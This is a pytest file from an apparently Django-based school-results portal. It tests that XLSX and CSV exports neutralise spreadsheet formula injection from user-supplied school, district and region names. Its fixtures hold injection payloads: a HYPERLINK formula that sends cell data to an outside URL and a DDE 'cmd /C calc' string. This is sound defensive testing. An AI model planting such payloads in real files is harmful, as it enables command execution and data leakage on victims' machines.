"""Words of users stay words: no export of ours holds a formula made of them.

source: OWASP, CSV injection; security.md §3.10
"""

import csv
import io
import zipfile
from collections.abc import Iterator

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests import make
from tests.cast import as_
from tests.domain.analytics.country import accept, row
from tests.stories.portal import Person, words, words_in
from vprok.domain.campaign.models import Work
from vprok.domain.territory.models import School
from vprok.kernel.charter import Actor

NAMES = {
    "name": '=HYPERLINK("http://example.org/?"&A1,"Средняя школа")',
    "short_name": "=1+1",
    "phone": "+7*7",
}
DISTRICT, REGION = "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0"
EVIL = (*NAMES.values(), DISTRICT, REGION)
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def work(db: None) -> Work:
    """Accepted results of a school whose names, and whose district's and region's, are formulas."""
    school = make.school()
    School.objects.filter(pk=school.pk).update(**NAMES)
    type(school.district).objects.update(name=DISTRICT)
    type(school.district.region).objects.update(name=REGION)
    work = make.work(maxima=(1, 2, 3))
    accept(School.objects.get(), work, [row(n, (1, 2, 3)) for n in range(6)])
    return work


def exports(vera: Actor, gleb: Actor) -> Iterator[tuple[str, bytes]]:
    """Every workbook and table that the portal draws out of its own words."""
    region, country = Person("Вера", as_(vera)), Person("Глеб", as_(gleb))
    for key in ("reg220000", "reg22_m019"):
        for kind in ("xlsx", "csv"):
            address = f"/territory/lists/{key}.{kind}"
            yield address, region.fetch(address)
    for place in ("ru", "ru.22", "ru.22.m019", "ru.22.m019.0042"):
        for name in ("table", "owing"):
            for kind in ("xlsx", "csv"):
                address = f"/monitoring/2026-spring/{place}/{name}.{kind}?show=accepted"
                yield address, country.fetch(address)
        address = f"/analytics/2026-spring/ma4/{place}/marks.xlsx"
        yield address, country.fetch(address)
    for place in ("ru.22", "ru.22.m019", "ru.22.m019.0042"):
        address = f"/analytics/2026-spring/ma4/{place}/individual.xlsx"
        yield address, country.fetch(address)


def test_no_export_holds_a_formula_made_of_somebody_s_words(
    work: Work, vera: Actor, gleb: Actor
) -> None:
    seen: dict[str, set[str]] = {word: set() for word in EVIL}
    for address, file in exports(vera, gleb):
        texts = table(file) if ".csv" in address else workbook(file, address)
        for word in EVIL:
            if any(word in text for text in texts):
                seen[word].add(address)
    assert all(seen.values()), f"what is never exported proves nothing: {seen}"
    assert any("marks.xlsx" in address for address in seen[NAMES["short_name"]])
    assert any("individual.xlsx" in address for address in seen[NAMES["short_name"]])
    assert any("table.xlsx" in address for address in seen[DISTRICT])


def workbook(file: bytes, address: str) -> list[str]:
    """The texts of a workbook; there is no formula, no link and nothing that leads outside."""
    texts = []
    assert file.startswith(b"PK"), f"{address}: {words_in(file.decode())}"
    for sheet in openpyxl.load_workbook(io.BytesIO(file)):
        for cell in (cell for cells in sheet.iter_rows() for cell in cells):
            assert cell.data_type in {"s", "n", "b"}, f"{address} {sheet.title}!{cell.coordinate}"
            assert cell.hyperlink is None, f"{address} {cell.coordinate}"
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert cell.quotePrefix or not cell.value.startswith(STARTS[:4]), cell.coordinate
                texts.append(cell.value)
    with zipfile.ZipFile(io.BytesIO(file)) as box:
        for name in box.namelist():
            part = box.read(name)
            assert b"<f>" not in part, name
            assert b"TargetMode" not in part, name
    return texts


def table(file: bytes) -> list[str]:
    """The cells of a .csv; none begins like a formula."""
    lines = list(csv.reader(io.StringIO(file.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for line in lines for cell in line]
    assert not [cell for cell in cells if cell.startswith(STARTS)]
    return cells


def test_a_list_handed_out_with_such_names_is_taken_back_as_it_was(work: Work, vera: Actor) -> None:
    region = Person("Вера", as_(vera))
    for kind in ("xlsx", "csv"):
        file = region.fetch(f"/territory/lists/reg220000.{kind}")
        upload = SimpleUploadedFile(f"список.{kind}", file)
        seen = region.browser.post("/territory/regions/22/list/", {"file": upload})
        assert seen.status_code == 200, f"{kind}: {words(seen)}"
        assert seen.context["told"].is_empty, kind
